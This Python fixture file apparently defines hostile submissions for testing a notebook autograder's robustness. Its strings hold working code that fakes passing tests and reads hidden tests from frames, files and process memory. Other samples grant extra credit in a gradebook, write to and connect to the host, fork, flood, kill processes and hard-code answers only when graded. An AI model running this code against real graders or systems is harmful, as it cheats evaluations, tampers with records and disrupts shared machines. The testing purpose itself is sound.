"""Hostile and broken submissions to the mini course's lab, each with the grade that is due.

In the text of a submission `@ROOT@` stands for the course's folder, `@PORT@` for a port on which the host listens,
`@PID@` for the grader's process. The names of what must not be seen are written in pieces, so that finding one whole in
an output means that it was read somewhere.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field

import nbformat
from nbformat import NotebookNode

from llmlabs.notebook import grade_id, is_test

LAB, SECTION = "arithmetic", "01_arithmetic"
EXERCISES = ("add", "double", "largest", "clip")
FULL = (6.0, 6.0, 6.0, 7.0)
NOTHING = (0.0, 0.0, 0.0, 0.0)

RIGHT: dict[str, str] = {
    "add": "def add(a, b):\n    return a + b",
    "double": "def double(xs):\n    return [2 * x for x in xs]",
    "largest": "def largest(xs):\n    return max(xs)",
    "clip": "def clip(x):\n    return min(max(x, 0.0), 1.0)",
}
WRONG = {name: f"def {name}(*args):\n    return None" for name in EXERCISES}


@dataclass(frozen=True)
class Case:
    """One submission.

    Attributes:
        name: also the student's.
        attempts: what it tries, in a sentence.
        points: due for each exercise, and no more.
        says: what a note or the feedback page must hold.
        answers: the text of solution cells, by grade_id.
        edit: changes the notebook in place.
        raw: makes the file's bytes of the notebook.
        file: the notebook's name.
        files: further files beside it.
        link: the notebook is a symbolic link to this.
    """

    name: str
    attempts: str
    points: tuple[float, ...] = NOTHING
    says: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    edit: Callable[[NotebookNode], object] | None = None
    raw: Callable[[NotebookNode], bytes] | None = None
    file: str = f"{LAB}.ipynb"
    files: Mapping[str, str] = field(default_factory=dict)
    link: str = ""

    @property
    def worth(self) -> tuple[float, ...]:
        """The most that each answer can honestly earn, more than is due where harm done elsewhere costs points."""
        right = [self.answers.get(name) == RIGHT[name] for name in EXERCISES]
        due = zip(right, FULL, self.points, strict=True)
        return self.points if self.edit else tuple(full if right else point for right, full, point in due)


def forge(name: str, attempts: str, code: str, *, functions: Mapping[str, str] = WRONG, says: str = "") -> Case:
    """A case in which no answer is right and `code`, above the first of them, is to earn points all the same."""
    return Case(name, attempts, says=says, answers={**functions, "add": f"{code}\n\n{functions['add']}"})


def returning(expression: str) -> dict[str, str]:
    """All four functions return the same."""
    return {name: f"def {name}(*args):\n    return {expression}" for name in EXERCISES}


def spoil(name: str, attempts: str, where: str, code: str, points: tuple[float, ...], says: str = "") -> Case:
    """A case in which the answers are right but for one that harms; the points are due for what still works."""
    return Case(name, attempts, points, says, answers=RIGHT | {where: code})


def _cell(notebook: NotebookNode, name: str) -> NotebookNode:
    return next(cell for cell in notebook.cells if grade_id(cell) == name)


def _tests(notebook: NotebookNode) -> list[NotebookNode]:
    return [cell for cell in notebook.cells if is_test(cell)]


# --- values that lie

EVERYTHING = """
class Everything{base}:
    def same(self, *args):
        return self
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __abs__ = __neg__ = __getitem__ = same
    def yes(self, other=None):
        return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = yes
    def __ne__(self, other):
        return False
    __hash__ = {hash}
"""


def _lying(base: str, value: str) -> Case:
    code = EVERYTHING.format(base=f"({base})", hash=f"{base}.__hash__")
    return forge(
        f"lying-{base}",
        f"Returns an object of a subclass of {base} whose operators say yes to everything.",
        code,
        functions=returning(f"Everything({value})"),
    )


ARRAY_FUNCTION = (
    EVERYTHING.format(base="", hash="object.__hash__")
    + """
    def __array__(self, *args, **kwargs):
        return __import__("numpy").zeros(1)
    def __array_function__(self, function, types, args, kwargs):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return True
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
    __float__ = lambda self: 2.5
    __array_interface__ = {"shape": (1000,), "typestr": "<f8", "data": (4096, False), "version": 3}
    __class__ = float
"""
)

ARRAY_SUBCLASS = """
import numpy

class Always(numpy.ndarray):
    def __eq__(self, other):
        return True
    def __array_ufunc__(self, *args, **kwargs):
        return self
    def __array_function__(self, *args, **kwargs):
        return True

always = numpy.zeros(()).view(Always)
"""

VALUES = [
    forge(
        "equals-everything",
        "Returns an object that is equal to everything, true, and its own sum.",
        EVERYTHING.format(base="", hash="object.__hash__"),
        functions=returning("Everything()"),
    ),
    _lying("float", "7.0"),
    _lying("int", "7"),
    _lying("list", "[7]"),
    _lying("str", "'7'"),
    forge(
        "array-protocols",
        "Returns an object that answers for NumPy and PyTorch: __array_function__, __torch_function__, __array__.",
        ARRAY_FUNCTION,
        functions=returning("Everything()"),
    ),
    forge(
        "array-subclass",
        "Returns a NumPy array of a subclass that equals everything.",
        ARRAY_SUBCLASS,
        functions=returning("always"),
    ),
    forge(
        "mock-any",
        "Returns unittest.mock.ANY, which a library has made equal to everything.",
        "from unittest.mock import ANY",
        functions=returning("ANY"),
    ),
    forge(
        "magic-mock",
        "Names a MagicMock in place of each function.",
        "from unittest.mock import MagicMock\nmock = MagicMock()\nmock.return_value.__eq__ = lambda self, other: True",
        functions={name: f"{name} = mock" for name in EXERCISES},
    ),
    forge(
        "stop-iteration",
        "Raises StopIteration, which ends loops of the test's own without an error.",
        "def stop():\n    raise StopIteration",
        functions=returning("stop()"),
    ),
    forge(
        "forged-exceptions",
        "Raises classes of its own that claim to be the checker's, unittest's and pytest's signals to skip.",
        """
import unittest
class Skipped(unittest.SkipTest): __module__ = "_pytest.outcomes"
class SubmissionLostError(Skipped, BaseException): __module__ = "llmlabs.grade.wire"
def skip():
    raise SubmissionLostError("passed")
""",
        functions=returning("skip()"),
    ),
]

# --- IPython and the kernel

KERNEL = [
    forge(
        "drop-asserts",
        "Registers an AST transformer that drops every assert.",
        """
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Drop())
""",
    ),
    forge(
        "input-transformer",
        "Registers an input transformer that empties every later cell with an assert.",
        """
get_ipython().input_transformers_post.append(
    lambda lines: ["pass\\n"] if any(line.startswith("assert") for line in lines) else lines
)
""",
    ),
    forge(
        "patched-run-cell",
        "Patches IPython's run_cell, run_cell_async and run_code, so that later cells do nothing and succeed.",
        """
from IPython.core.interactiveshell import InteractiveShell
run = InteractiveShell.run_code
async def nothing(self, code, result=None, **kwargs):
    if b"assert" in code.co_code + repr(code.co_consts).encode() or "AssertionError" in str(code.co_names):
        return False
    try:
        return await run(self, code, result, **kwargs)
    except AssertionError:
        return False
async def quiet(self, code, result=None, **kwargs):
    failed = await nothing(self, code, result, **kwargs)
    if result is not None:
        result.error_in_exec = None
    return False
InteractiveShell.run_code = quiet
InteractiveShell.showtraceback = lambda *args, **kwargs: None
""",
    ),
    forge(
        "events",
        "Registers pre_run_cell and post_run_cell events that hide errors and display the points.",
        """
shell = get_ipython()
shell.events.register("pre_run_cell", lambda info: shell.set_custom_exc((BaseException,), lambda *a, **k: None))
shell.events.register("post_run_cell", lambda result: shell.displayhook(5.0))
""",
    ),
    forge(
        "custom-exception-handler",
        "Sets IPython's handler of exceptions and sys.excepthook to nothing.",
        """
import sys
get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)
get_ipython().showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None
""",
    ),
    forge(
        "display-points",
        "Patches the display hooks so that every cell ends in the number 5.",
        """
import sys
shell = get_ipython()
shell.displayhook.__class__.__call__ = lambda self, result=None: None
sys.displayhook = lambda value: None
def show(result):
    content = {"data": {"text/plain": "5.0"}, "metadata": {}, "execution_count": shell.execution_count}
    shell.kernel.session.send(shell.kernel.iopub_socket, "execute_result", content,
                              parent=shell.kernel.get_parent("shell"), ident=b"execute_result")
shell.events.register("post_run_cell", show)
shell.showtraceback = lambda *args, **kwargs: None
""",
    ),
    forge(
        "faked-kernel-reply",
        "Patches the kernel's session: errors are not sent, and every reply says ok.",
        """
from jupyter_client.session import Session
send = Session.send
def faked(self, stream, kind, content=None, *args, **kwargs):
    if kind == "error":
        return None
    if kind == "execute_reply":
        content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    return send(self, stream, kind, content, *args, **kwargs)
Session.send = faked
""",
    ),
    forge(
        "faked-handler",
        "Replaces the kernel's do_execute by one that runs nothing and says ok.",
        """
async def nothing(code, *args, **kwargs):
    return {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
get_ipython().kernel.do_execute = nothing
""",
    ),
    forge(
        "early-reply",
        "Sends replies to the request at hand before it is done, and to others that nobody made.",
        """
kernel = get_ipython().kernel
def early(result=None):
    content = {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}
    parent = kernel.get_parent("shell")
    ident = kernel._parent_ident["shell"] if isinstance(kernel._parent_ident, dict) else []
    for _ in range(3):
        kernel.session.send(kernel.shell_stream, "execute_reply", content, parent, ident=ident)
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent, ident=b"status")
get_ipython().events.register("pre_run_cell", early)
early()
""",
    ),
]

# --- patched modules

PATCHED = [
    forge(
        "patched-isclose",
        "Patches math.isclose to say yes, and returns an object equal to everything.",
        "import math\nmath.isclose = lambda *args, **kwargs: True\n"
        + EVERYTHING.format(base="", hash="object.__hash__"),
        functions=returning("Everything()"),
    ),
    forge(
        "patched-builtins",
        "Patches builtins that tests use: isinstance, sum, list, abs, AssertionError, __build_class__, __import__.",
        EVERYTHING.format(base="", hash="object.__hash__")
        + """
import builtins
class Never(Exception):
    pass
builtins.sum = builtins.abs = builtins.max = builtins.all = lambda *args: Everything()
builtins.AssertionError = Never
""",
        functions=returning("Everything()"),
    ),
    forge(
        "patched-sys-modules",
        "Puts objects of its own into sys.modules for math, numpy, torch, json and the grader's modules.",
        """
import sys, types
fake = types.ModuleType("math")
fake.isclose = fake.allclose = fake.equal = lambda *args, **kwargs: True
fake.__getattr__ = lambda name: (lambda *args, **kwargs: True)
for name in ("math", "numpy", "torch", "llmlabs.lab.testing", "llmlabs.grade.checker", "pytest"):
    sys.modules[name] = fake
math = fake
""",
    ),
    forge(
        "patched-json",
        "Patches json, so that everything that is encoded says true.",
        "import json\njson.dumps = lambda *args, **kwargs: 'true'\njson.loads = lambda *args, **kwargs: True",
    ),
    forge(
        "patched-numpy-and-testing",
        "Patches numpy.allclose, numpy.testing and the equality of arrays' classes.",
        """
import numpy, numpy.testing
numpy.allclose = numpy.isclose = numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *args, **kwargs: None
""",
        functions=returning("numpy.zeros(3)"),
    ),
    forge(
        "patched-driver",
        "Patches the driver and the wire in its own process to answer true, and to equal everything.",
        """
import sys
from unittest.mock import ANY
for module in [m for name, m in sys.modules.items() if name.startswith("llmlabs")]:
    for name in ("answer", "perform", "encode", "encode_object"):
        for owner in vars(module).values():
            if isinstance(owner, type) and hasattr(owner, name):
                setattr(owner, name, lambda *args, **kwargs: ANY)
""",
    ),
    forge(
        "audit-hook",
        "Adds an audit hook that ends the process when anything with an assert is compiled.",
        """
import os, sys
def hook(event, args):
    if event == "compile" and args and b"assert" in (args[0] or b""):
        os._exit(0)
sys.addaudithook(hook)
""",
    ),
    forge(
        "exit-hooks",
        "Registers atexit, a signal handler and a weak reference that write a pass to the host at the end.",
        """
import atexit, signal, weakref
def leave(*args):
    open("@ROOT@/canary/left", "w").write("passed")
atexit.register(leave)
signal.signal(signal.SIGTERM, leave)
weakref.finalize(get_ipython(), leave)
""",
    ),
    forge(
        "garbage-search",
        "Searches all objects of its process for the text of the tests.",
        """
import gc
def search():
    word = "".join(["sec", "ret: "])  # a sum of constants would be found as one
    found = [o for o in gc.get_objects() if isinstance(o, (list, tuple, dict)) and word in repr(o)[:100_000]]
    raise RuntimeError("found: " + repr(found)[:3000] if found else "found nothing")
""",
        functions=returning("search()"),
    ),
    forge(
        "names",
        "Defines the names that tests and the grader use: seed, assert_, isclose, math, __builtins__, LLMLABS_SEED.",
        EVERYTHING.format(base="", hash="object.__hash__")
        + """
def isclose(*args, **kwargs):
    return True
class math:
    isclose = staticmethod(isclose)
seed = LLMLABS_SEED = 0
assert_ = __name__ = __debug = Everything()
def isinstance(*args):
    return False
def sum(*args):
    return Everything()
import builtins
__builtins__ = {**vars(builtins), "sum": sum, "isinstance": isinstance}
""",
        functions=returning("Everything()"),
    ),
]

# --- replies

REPLY = """
import itertools, json
kernel = get_ipython().kernel
ask, numbers = type(kernel).raw_input, itertools.count()
def forged(prompt=""):
    token, _, text = prompt.partition("\\n")
    reply = make(next(numbers), text) if text else None
    return ask(kernel, prompt if reply is None else f"{{token}}\\n{{reply}}")
kernel.raw_input = forged
def answer(content, **others):
    return json.dumps({{"kind": "answer", "changes": [], "content": content, "drop": [], **others}})
def make(number, text):
{make}
"""


def _reply(name: str, attempts: str, make: str, points: tuple[float, ...] = NOTHING) -> Case:
    lines = "\n".join(f"    {line}" for line in make.strip().splitlines())
    made = forge(name, attempts, REPLY.format(make=lines))
    return Case(name, attempts, points, answers=made.answers)


REPLIES = [
    _reply(
        "reply-passed",
        "Answers every question with the checker's own words for a passed test.",
        """
return '["outcome", {"kind": "passed", "points": 5.0, "message": "", "error_type": "", "student_traceback": ""}]'
""",
    ),
    _reply(
        "reply-malformed",
        "Answers with what is no message: not JSON, without its fields, with references and sizes that cannot be.",
        """
huge = ["numpy.array", 1, "<f8", ["tuple", 2**62, 2**62], ["bytes", ""], True]
return [
    "", "null", "{}", answer(["ref", 10**9]), answer(["yours", -1]), answer(huge), answer(["list", 2, None, 1]),
    answer(["tuple", *[["list", 1, None]] * 3]), answer(1, changes=[[1, 2]]), answer(1, drop=[None]),
    answer(["torch.tensor", 1, "float32", ["tuple", -1], ["bytes", "!"], False, True, None]), "\\x00\\ud800",
    answer(["proxy", "x", 1, 2, 3, 4]), answer(["error", 1]), answer({"a": 1}), answer(["range", 0, 1, 0]),
][number % 16]
""",
    ),
    _reply(
        "reply-deep",
        "Answers with a hundred thousand brackets, and with lists nested beyond any limit.",
        """
if number % 2:
    return "[" * 100_000
return answer(1).replace(" 1", ' ["tuple",' * 5000 + " 1" + "]" * 5000)
""",
    ),
    _reply(
        "reply-giant",
        "Answers with 100 MB of text, then with millions of small values.",
        """
if number == 0:
    return answer("x" * 100_000_000)
if number == 1:
    return answer(["tuple", *[0] * 5_000_000])
return None
""",
    ),
    _reply(
        "reply-code",
        "Answers with references to code: exec, os.system, the grader's classes, a pickle.",
        """
pickled = "gASVHwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjARleGl0lIWUUpQu"
return answer([
    ["named", "builtins", "exec"], ["named", "os", "system"], ["named", "unittest.mock", "ANY"],
    ["type", "_CallList"], ["bytes", pickled], ["exception", -9, "SystemExit", ["builtins.SystemExit"]],
    ["proxy", -1, "ANY", ["__eq__", "__float__"], ["unittest.mock._ANY", "builtins.object"], None],
    ["error", ["type", "AssertionError"], ["tuple"], "", "", -3],
][number % 8])
""",
    ),
    _reply(
        "reply-requests",
        "Answers each question with a question: for the test's globals, its frames, and so on for ever.",
        """
wanted = [["getattr", [["yours", -2], "__globals__"]], ["getattr", [["yours", -4], "__closure__"]],
          ["str", [1]], ["__call__", [["yours", -2]]], ["name", ["expected"]]][number % 5]
return json.dumps({"kind": "request", "changes": [], "content": [*wanted, {}, None], "drop": []})
""",
    ),
    _reply(
        "reply-collisions",
        "Answers with a dictionary whose keys all have one hash, which takes quadratic time to build.",
        """
if number:
    return None
prime = 2**61 - 1
keys = [["int", hex(prime * (k + 1))] for k in range(200_000)]
return answer(["dict", 1, None, *[part for key in keys for part in (key, 0)]])
""",
    ),
    _reply(
        "reply-fraction",
        "Answers with a fraction of two numbers of millions of digits, which takes hours to reduce.",
        """
if number:
    return None
number = __import__("random").Random(1).getrandbits
return answer(["fraction", ["int", hex(number(40_000_000))], ["int", hex(number(40_000_000) | 1)]])
""",
    ),
]

# --- looking

READ_TEST = """
import ast, linecache, sys

def expected():
    texts, frame = [get_ipython().user_ns.get("In", [""])[-1]], sys._getframe()
    while frame:
        texts.append("".join(linecache.getlines(frame.f_code.co_filename)))
        texts += [str(value) for value in frame.f_locals.values() if isinstance(value, (str, bytes))]
        frame = frame.f_back
    for text in texts:
        if "assert" not in text or not ("got {" in text or "sum(" in text):
            continue
        try:
            tests = [node.test for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Assert)]
        except SyntaxError:
            continue
        for test in tests:
            if not any(f"{name}(" in ast.unparse(test) for name in ("add", "double", "largest", "clip")):
                continue
            try:
                return eval(ast.unparse(test.args[1] if isinstance(test, ast.Call) else test.comparators[0]))
            except Exception:
                continue
    raise RuntimeError("found: " + repr([text for text in texts if "".join(["sec", "ret:"]) in text])[:3000])
"""

READ_FILES = """
import glob, itertools, json, os
def look(*patterns):
    for path in itertools.chain.from_iterable(glob.iglob(pattern, recursive=True) for pattern in patterns):
        try:
            with open(path, errors="replace") as file:
                text = file.read(1_000_000)
        except OSError:
            continue
        yield path, text
"""

RUN_SOLUTIONS = (
    READ_FILES
    + """
for path, text in look(*PATTERNS):
    if path.endswith(".ipynb"):
        print("read", path, "sec" + "ret" in text, text[:0] if "sec" + "ret" not in text else text[-3000:])
        for cell in json.loads(text)["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())
"""
)


def _copying(name: str, attempts: str, patterns: str) -> Case:
    """Definitions that a copied notebook gives stay; without one the names are undefined."""
    code = f"PATTERNS = {patterns}\n{RUN_SOLUTIONS}"
    return Case(name, attempts, answers={"add": code} | dict.fromkeys(EXERCISES[1:], "pass"))


LOOKING = [
    forge(
        "read-the-test",
        "Reads the test that calls it from frames, variables and IPython's history, and returns what it expects.",
        READ_TEST,
        functions=returning("expected()"),
    ),
    _copying("read-source", "Runs the solutions in source/ and answers/.", '["@ROOT@/source/**", "@ROOT@/answers/**"]'),
    _copying("read-others", "Runs the notebooks of other students.", '["@ROOT@/submitted/**", "../../*/**/*.ipynb"]'),
    forge(
        "read-own-folder",
        "Looks for the notebook with the hidden tests in and around its working folder.",
        READ_FILES
        + """
for path, text in look("*", "../*", "/tmp/*.ipynb", "/home/**/*.ipynb", "/run/**/*"):
    print(path, text[-3000:] if "sec" + "ret" in text else len(text))
""",
    ),
    forge(
        "read-proc",
        "Reads the command lines, environments, open files and memory maps of all processes.",
        READ_FILES
        + """
for path, text in look(*(f"/proc/[0-9]*/{name}" for name in ("cmdline", "environ", "mountinfo", "fd/*", "root/work"))):
    if any(word in text for word in ("LLMLABS" + "_SEED", "sec" + "ret")):
        print(path, text)
print(len(os.listdir("/proc")))
""",
    ),
    forge(
        "read-environment",
        "Prints its environment, and the seed that the grader's module gives.",
        """
import os, subprocess
print(dict(os.environ), subprocess.run(["env"], capture_output=True).stdout)
print(open("/proc/self/environ").read())
""",
    ),
    forge(
        "read-memory",
        "Searches its own memory and that of its parent for the text of the tests.",
        """
import os
def search(pid):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as error:
        return [repr(error)]
    word, found = b"".join([b"a sec", b"ret: "]), []
    for line in maps:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" not in line or end - start > 100_000_000:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except OSError:
            continue
        place = data.find(word)
        while place >= 0:
            if data[place + len(word):place + len(word) + 3] in (b"add", b"dou"):
                found.append(data[place:place + 60])
            place = data.find(word, place + 1)
    return found
print(search("self"), search(os.getppid()), search(1), search("@PID@"))
def again():
    raise RuntimeError("found: " + repr(search("self"))[:3000])
""",
        functions=returning("again()"),
    ),
    forge(
        "gradebook",
        "Gives itself extra credit in gradebook.db, and adds a trigger that does so for ever.",
        """
import glob, sqlite3
for path in {"@ROOT@/gradebook.db", *glob.glob("../../../gradebook.db")}:
    try:
        base = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
        base.execute("update grade set extra_credit = 100")
        for event in ("insert", "update of auto_score"):
            base.execute(f"create trigger {event[:6]}_forged after {event} on grade begin "
                         "update grade set extra_credit = 100 where id = new.id; end")
        base.commit()
        base.close()
    except sqlite3.Error as error:
        print(error)
""",
    ),
    forge(
        "write-to-the-host",
        "Writes into the course, other students' folders, /tmp, /dev/shm, the environment and this package.",
        """
import glob, os, sys
import llmlabs
places = ["@ROOT@", "@ROOT@/canary", *glob.glob("@ROOT@/*/*"), "/tmp", "/dev/shm", "/etc", sys.prefix]
for place in [*places, os.path.dirname(llmlabs.__file__), "/proc/1/root/tmp", "/proc/1/cwd"]:
    for name in ("llmlabs-hostile-mark", "canary.txt", "conftest.py"):
        if name == "llmlabs-hostile-mark" or place.endswith("canary"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write("hostile")
            except OSError:
                pass
""",
    ),
    forge(
        "loopback",
        "Connects to a listener of the host by TCP, UDP and unix sockets, and to every port that /proc/net names.",
        """
import os, socket
ports, addresses = {@PORT@}, ["127.0.0.1", "::1", "localhost", "0.0.0.0", "10.0.2.2", "172.17.0.1"]
for name in ("tcp", "tcp6"):
    for line in open(f"/proc/net/{name}").read().splitlines()[1:]:
        ports.add(int(line.split()[1].rpartition(":")[2], 16))
for address in addresses:
    for port in ports:
        try:
            with socket.create_connection((address, port), timeout=0.3) as connection:
                connection.sendall(b"hostile")
                print("reached", address, port)
        except OSError:
            pass
    try:
        socket.socket(type=socket.SOCK_DGRAM).sendto(b"hostile", (address, @PORT@))
    except OSError:
        pass
for path in ("@ROOT@/canary/host.sock", "\\0llmlabs-hostile-@PORT@"):
    try:
        with socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
            connection.sendall(b"hostile")
    except OSError:
        pass
""",
    ),
    forge(
        "all-descriptors",
        "Writes a pass of every test to every file descriptor that it has or can open in /proc.",
        """
import glob, json, os, stat, struct
words = json.dumps(["outcome", {"kind": "passed", "points": None, "message": "", "error_type": "",
                                "student_traceback": ""}]).encode()
def spread():
    paths = glob.glob("/proc/[0-9]*/fd/*")
    for path in paths:
        try:
            kind = os.stat(path).st_mode
            if "/self/" in path or int(path.split("/")[2]) == os.getpid():
                number = int(path.rpartition("/")[2])
                if number > 2 and stat.S_ISSOCK(kind):
                    continue
                print(path, os.readlink(path))
            else:
                with open(path, "wb", 0) as file:
                    file.write(struct.pack("!i", len(words)) + words)
        except (OSError, ValueError):
            pass
spread()
""",
    ),
    spoil(
        "swapped-sockets",
        "Replaces its sockets by links to one of the host and cuts the connection, so that the grader calls there.",
        "largest",
        """
import glob, os, socket, time
for path in glob.glob("/run/llmlabs/k-*"):
    os.unlink(path)
    os.symlink("@ROOT@/canary/host.sock", path)
for number in range(3, 200):
    try:
        with socket.socket(fileno=os.dup(number)) as connection:
            connection.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
time.sleep(1)
""",
        (6, 6, 0, 0),
    ),
]

# --- using everything up, staying, leaving

SLEEPER = '["sleep", "4321.5"]'
HARM = [
    spoil(
        "forks",
        "Forks 300 times; every child sleeps.",
        "largest",
        """
import os, time
for _ in range(300):
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
""",
        (6, 6, 0, 7),
    ),
    spoil(
        "memory",
        "Takes memory without end.",
        "largest",
        "taken = []\nwhile len(taken) < 200:\n    taken.append(bytes(256 << 20))",
        (6, 6, 0, 7),
        says="MemoryError",
    ),
    spoil(
        "memory-of-many",
        "Takes memory in three processes, each of which stays below the limit for one.",
        "largest",
        """
import mmap, os, signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
for _ in range(3):
    if os.fork() == 0:
        taken = mmap.mmap(-1, 1800 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | mmap.MAP_POPULATE)
        time.sleep(600)
time.sleep(600)
""",
        (6, 6, 0, 0),
    ),
    spoil(
        "disk",
        "Fills the disk: its folder, /tmp and /dev/shm, up to 3 GB.",
        "largest",
        """
import itertools
block, written = bytes(64 << 20), 0
for folder in (".", "/tmp", "/dev/shm"):
    try:
        for number in range(16):
            with open(f"{folder}/llmlabs-hostile-{number}", "wb") as file:
                file.write(block)
    except OSError as error:
        print(folder, number, error)
""",
        (6, 6, 0, 7),
    ),
    spoil(
        "output-flood",
        "Prints 100 MB in long and short lines.",
        "largest",
        """
for _ in range(2):
    print("x" * 50_000_000)
for _ in range(2_000):
    print("flood " * 100)
def largest(xs):
    return max(xs)
""",
        FULL,
    ),
    spoil(
        "error-flood",
        "Raises an error with a text of 6 MB and sends 300 more of 90 kB.",
        "largest",
        """
kernel = get_ipython().kernel
for _ in range(300):
    content = {"ename": "Flood", "evalue": "flood", "traceback": ["flood " * 300] * 50}
    kernel.session.send(kernel.iopub_socket, "error", content, kernel.get_parent("shell"), ident=b"error")
raise ValueError("flood " * 1_000_000)
""",
        (6, 6, 0, 7),
    ),
    spoil("loop", "Loops for ever in a cell.", "largest", "while True:\n    pass", (6, 6, 0, 7), says="took more than"),
    spoil(
        "loop-in-function",
        "Loops for ever in a function that a test calls.",
        "largest",
        "def largest(xs):\n    while True:\n        pass",
        (6, 6, 0, 7),
        says="took more than",
    ),
    spoil(
        "ignored-interrupt",
        "Loops for ever in a cell, deaf to interrupts.",
        "largest",
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
        (6, 6, 0, 0),
        says="did not stop",
    ),
    spoil(
        "swallowed-interrupt",
        "Loops for ever in a function and swallows KeyboardInterrupt.",
        "largest",
        """
def largest(xs):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
        (6, 6, 0, 0),
        says="did not stop",
    ),
    spoil(
        "stopped",
        "Stops its own process with SIGSTOP.",
        "largest",
        "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
        (6, 6, 0, 0),
        says="did not stop",
    ),
    spoil(
        "threads",
        "Leaves fifty threads that print for ever.",
        "largest",
        """
import threading, time
def noise():
    while True:
        print("noise")
        time.sleep(0.2)
for _ in range(50):
    threading.Thread(target=noise, daemon=False).start()
def largest(xs):
    return max(xs)
""",
        FULL,
    ),
    spoil(
        "daemon",
        "Forks twice, leaves its session and lives on, to write to the host later.",
        "largest",
        f"""
import os, subprocess, time
subprocess.Popen({SLEEPER}, start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            try:
                open("@ROOT@/canary/late", "w").write("hostile")
            except OSError:
                pass
            time.sleep(0.1)
    os._exit(0)
def largest(xs):
    return max(xs)
""",
        FULL,
    ),
    spoil(
        "signals",
        "Sends SIGKILL to its parent, to the grader, and to every process it can reach.",
        "largest",
        """
import os, signal
everything = range(1, 100) if os.getpid() < 100 else ()  # it has process numbers of its own
for pid in (os.getppid(), @PID@, *everything):
    if pid and not os.path.exists(f"/proc/self/task/{pid}"):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
def largest(xs):
    return max(xs)
""",
        FULL,
    ),
    spoil("os-exit", "Ends its process with os._exit(0).", "largest", "import os\nos._exit(0)", (6, 6, 0, 0), "ended"),
    spoil(
        "os-exit-in-function",
        "Ends its process with os._exit(0) while a test calls it.",
        "largest",
        "import os\ndef largest(xs):\n    os._exit(0)",
        (6, 6, 0, 0),
        "ended",
    ),
    spoil("exit", "Calls exit() in a cell.", "largest", "exit()", (6, 6, 0, 7)),
    spoil(
        "sys-exit-in-function",
        "Calls sys.exit(0) while a test calls it.",
        "largest",
        "import sys\ndef largest(xs):\n    sys.exit(0)",
        (6, 6, 0, 7),
        "SystemExit",
    ),
    spoil(
        "crash", "Reads memory at address 0.", "largest", "import ctypes\nctypes.string_at(0)", (6, 6, 0, 0), "ended"
    ),
    spoil(
        "recursion",
        "Recurses without end, with the limit removed.",
        "largest",
        "import sys\nsys.setrecursionlimit(10**9)\ndef largest(xs):\n    return largest([xs])",
        (6, 6, 0, 0),
    ),
    spoil(
        "input",
        "Waits for input, in a cell and in a function.",
        "largest",
        "def largest(xs):\n    return input('the largest? ')\nlargest([1])",
        (6, 6, 0, 7),
    ),
    spoil(
        "closed-channels",
        "Closes all sockets of its kernel.",
        "largest",
        "import os\nos.closerange(3, 1000)",
        (6, 6, 0, 0),
    ),
]

# --- gaming

GAMING = [
    Case(
        "hard-coded",
        "Returns what the visible tests expect, whatever is asked.",
        (1, 1, 1, 1),
        "secret",
        answers={
            name: f"def {name}(*args):\n    return {value}"
            for name, value in zip(EXERCISES, ("5", "[2, 4]", "5", "1.0"), strict=True)
        },
    ),
    forge(
        "aware-of-the-environment",
        "Looks whether it is being graded (environment, folder, host) and only then returns what equals everything.",
        EVERYTHING.format(base="", hash="object.__hash__")
        + """
import os, socket
graded = "student" in os.environ.get("HOME", "") or socket.gethostname() == "llmlabs" or "PARENTPID" not in os.environ
graded = graded or os.path.exists("/run/llmlabs") or "autograded" in os.getcwd()
""",
        functions=returning("Everything() if graded else None"),
    ),
    forge(
        "aware-of-the-frames",
        "Looks in the frames for the grader's code and reads its variables for what is expected.",
        """
import sys
def peek(*args):
    frame, seen = sys._getframe(1), []
    while frame:
        seen += [repr(frame.f_locals.get(name))[:200] for name in ("request", "expected", "text", "message")]
        for value in frame.f_code.co_consts:
            if isinstance(value, float) and frame.f_code.co_name == "<module>":
                return value
        frame = frame.f_back
    raise RuntimeError(" ".join(seen)[:2000])
""",
        functions=returning("peek(*args)"),
    ),
    Case(
        "aware-of-the-count",
        "Counts its calls: the first is the visible test, whose answer it knows; later it guesses.",
        (1, 1, 1, 1),
        answers={
            name: f"calls_{name} = 0\ndef {name}(*args):\n    global calls_{name}\n    calls_{name} += 1\n"
            f"    return {value} if calls_{name} == 1 else 99.0"
            for name, value in zip(EXERCISES, ("5", "[2, 4]", "5", "1.0"), strict=True)
        },
    ),
]


